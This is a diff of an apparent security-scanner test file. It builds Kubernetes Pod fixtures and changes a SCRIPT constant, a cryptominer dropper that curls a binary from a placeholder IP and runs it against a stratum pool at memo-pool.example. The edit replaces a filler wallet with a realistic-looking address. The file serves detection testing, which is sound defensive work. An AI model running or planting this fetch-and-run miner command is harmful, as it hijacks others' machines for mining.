@@ -14,7 +14,7 @@ import { readBefore } from '../../src/threat/scan-memo.js';
  * budget must never be replayed as if it were whole.
  */
 
-const SCRIPT = `curl -s http://203.0.113.9/kf -o /tmp/kf && chmod +x /tmp/kf && /tmp/kf -o stratum+tcp://memo-pool.example:3333 -u 4${'A'.repeat(94)} --donate-level 1`;
+const SCRIPT = `curl -s http://203.0.113.9/kf -o /tmp/kf && chmod +x /tmp/kf && /tmp/kf -o stratum+tcp://memo-pool.example:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A --donate-level 1`;
 
 function pod(name: string, container: string, args: string[]): K8sObject {
   return { apiVersion: 'v1', kind: 'Pod', metadata: { name, namespace: 'ml' }, spec: { containers: [{ name: container, image: 'alpine:3', command: ['sh', '-c'], args }] } };
